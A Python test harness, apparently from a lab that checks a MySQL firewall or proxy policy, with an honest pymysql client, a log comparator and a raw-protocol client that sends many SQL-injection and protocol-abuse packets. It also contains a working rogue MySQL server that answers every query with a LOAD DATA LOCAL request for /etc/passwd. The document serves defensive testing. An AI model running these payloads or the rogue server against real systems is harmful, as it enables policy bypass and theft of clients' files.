#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The lab's own MySQL clients, and a server that steals files.

honest SERVER         pymysql; prints one line of JSON per command: its text, status, rows
compare EVE HONEST    the records of these commands say the same
hostile SERVER        what the policy of test_mysql.sh denies, in many forms; none must arrive
rogue PORT            greets, and answers any statement with a request for /etc/passwd
"""
import hashlib
import json
import socket
import struct
import sys

import pymysql

NO_SCHEMA, SECURE, PLUGIN, WITH_DB, PROTOCOL_41, MULTI = 1 << 4, 1 << 15, 1 << 19, 1 << 3, 1 << 9, 1 << 16


def packet(body, sequence=0):
    return struct.pack("<I", len(body))[:3] + bytes([sequence]) + body


# ---------------------------------------------------------------- honest

def honest(server):
    connection = pymysql.connect(host=server, user="wp", password="pw", database="blog", autocommit=True)
    cursor = connection.cursor()
    for i, text in enumerate([
            "SELECT id FROM posts WHERE id < 4 AND %d", "SELECT id FROM posts WHERE id < 2 AND %d + 1", "SELECT id FROM posts WHERE id > 1000 + %d",
            "DELETE FROM bulk WHERE %d = 0", "INSERT INTO bulk VALUES (1, 'a'), (2, 'b'), (%d, 'c')", "UPDATE bulk SET body = 'x%d'",
            "SELECT nothing%d FROM posts", "INSERT INTO bulk SELECT id, body FROM posts WHERE id < 3 AND %d", "SELECT * FROM bulk WHERE %d",
            "SELECT", "SELECT seq.id FROM posts seq, bulk b WHERE seq.id < 4 AND %d"]):
        text = text.replace("%d", str(i + 1))
        try:
            print(json.dumps({"query": text, "status": "ok", "rows": cursor.execute(text)}))
        except pymysql.err.Error as e:
            print(json.dumps({"query": text, "status": "error", "error": e.args[0]}))
    connection.ping()
    connection.close()
    print('"done"')


def compare(eve, path):
    with open(path, encoding="utf-8") as file:
        wanted = [json.loads(line) for line in file]
    with open(eve, encoding="utf-8") as file:
        records = [r for r in map(json.loads, file) if "mysql" in r]
    wrong = 0
    for want in wanted[:-1]:
        at = next((i for i, r in enumerate(records) if r["event_type"] == "request" and r["mysql"].get("query") == want["query"]), None)
        reply = next((r["mysql"] for r in records[at or 0:] if r["event_type"] == "reply" and at is not None
                      and r["flow_id"] == records[at]["flow_id"]), {})
        got = {"query": want["query"], "status": reply.get("status")}
        got.update({"rows": reply.get("rows", 0)} if reply.get("status") == "ok" else {"error": reply.get("error")})
        if got != want:
            print(f"wanted {want}, recorded {got}")
            wrong += 1
    return wrong


# ---------------------------------------------------------------- hostile

class Raw:
    """A client that says what no library would."""

    def __init__(self, server, user=b"wp", flags=0, without=0, schema=b"blog"):
        self.socket = socket.create_connection((server, 3306), timeout=4)
        self.file = self.socket.makefile("rb")
        greeting = self.read()
        at = greeting.index(b"\0", 1) + 5
        salt = greeting[at:at + 8] + greeting[at + 27:at + 39]
        once = hashlib.sha1(b"pw").digest()
        mixed = hashlib.sha1(salt + hashlib.sha1(once).digest()).digest()
        caps = (PROTOCOL_41 | SECURE | PLUGIN | WITH_DB | MULTI | flags) & ~without
        self.send(struct.pack("<IIB", caps, 1 << 24, 45) + bytes(23) + user + b"\0\x14" + bytes(a ^ b for a, b in zip(once, mixed))
                  + schema + b"\0mysql_native_password\0", 1)
        self.login = self.read()

    def send(self, body, sequence=0):
        self.socket.sendall(packet(body, sequence))

    def read(self):
        head = self.file.read(4)
        return self.file.read(int.from_bytes(head[:3], "little")) if len(head) == 4 else b""

    def all(self):
        """Whatever else the server says, until it has been silent for a moment."""
        self.socket.settimeout(0.3)
        out = b""
        try:
            while more := self.socket.recv(65536):
                out += more
        except OSError:
            pass
        return out


def attempts():
    """Login arguments, and the packets behind it."""
    for text in (b"SELECT body AS hostile_1 FROM crm.posts", b"SELECT 1; SELECT body AS hostile_2 FROM crm.posts", b"DROP TABLE posts /*hostile_3*/",
                 b"SELECT 1 /*!UNION SELECT body AS hostile_4 FROM crm.posts*/", b"SELECT 1 /*M!100000 UNION SELECT body AS hostile_5 FROM crm.posts*/",
                 b"PREPARE s FROM 'SELECT body AS hostile_6 FROM crm.posts'", b"EXECUTE IMMEDIATE 'SELECT body AS hostile_7 FROM crm.posts'",
                 b"SELECT(body)hostile_8 FROM(crm.posts)", b"CREATE TABLE hostile_9 AS SELECT 1", b"SET GLOBAL general_log = 'hostile_10'",
                 b"SELECT 1 -- \nUNION SELECT body AS hostile_11 FROM crm . posts", b"USE crm; SELECT body AS hostile_12 FROM posts",
                 b"LOAD DATA INFILE 'hostile_13' INTO TABLE posts", b"SELECT load_file('hostile_14')"):
        yield {}, [packet(b"\x03" + text)]
        yield {}, [packet(b"\x16" + text), packet(b"\x17\xff\xff\xff\xff\0\1\0\0\0")]
        yield {}, [packet(b"\x03SELECT 1") + packet(b"\x03" + text)]
    yield {}, [packet(b"\x02crm"), packet(b"\x03SELECT body AS hostile_15 FROM posts")]
    yield {"flags": NO_SCHEMA, "schema": b"crm"}, [packet(b"\x03SELECT body AS hostile_16 FROM blog.posts")]
    yield {"user": b"'admin'"}, [packet(b"\x03SELECT body AS hostile_17 FROM crm.posts")]
    yield {"without": SECURE}, [packet(b"\x03SELECT body AS hostile_18 FROM crm.posts")]
    yield {}, [packet(b"\x03SELECT 1") + packet(b"\x03SELECT body AS hostile_19 FROM crm.posts", 1)]
    yield {}, [packet(b"\x1f"), packet(b"\x03SELECT body AS hostile_20 FROM crm.posts")]
    yield {}, [packet(b"\x12" + bytes(10) + b"hostile_21")]
    yield {}, [packet(b"\xfe" + b"\x01" + b"\x03SELECT body AS hostile_22 FROM crm.posts")]


def hostile(server):
    tried = answered = 0
    for login, packets in attempts():
        tried += 1
        try:
            client = Raw(server, **login)
            for p in packets:
                client.socket.sendall(p)
            said = client.all()
            answered += b"\xff\xcb\x04" in said
            if b"secret" in said:
                print(f"secret by {packets}")
        except OSError:
            pass
    print(f"tried {tried}, of which {answered} were told by an error of the protocol")


# ---------------------------------------------------------------- a rogue server

def rogue(port):
    listener = socket.create_server(("0.0.0.0", port))
    while True:
        connection, _ = listener.accept()
        connection.settimeout(4)
        flags = 0x81FFF7FE | 0x80
        try:
            connection.sendall(packet(b"\n10.11.0-MariaDB\0\1\0\0\0abcdefgh\0" + struct.pack("<HBHHB", flags & 0xffff, 45, 2, flags >> 16, 21)
                                      + bytes(10) + b"ijklmnopqrst\0mysql_native_password\0"))
            connection.recv(4096)
            connection.sendall(packet(b"\0\0\0\2\0\0\0", 2))
            while connection.recv(4096):
                connection.sendall(packet(b"\xfb/etc/passwd", 1))
                print(connection.recv(1 << 20).decode("latin-1"), flush=True)
        except OSError:
            pass
        connection.close()


if __name__ == "__main__":
    sys.exit({"honest": honest, "compare": compare, "hostile": hostile, "rogue": lambda p: rogue(int(p))}[sys.argv[1]](*sys.argv[2:]))
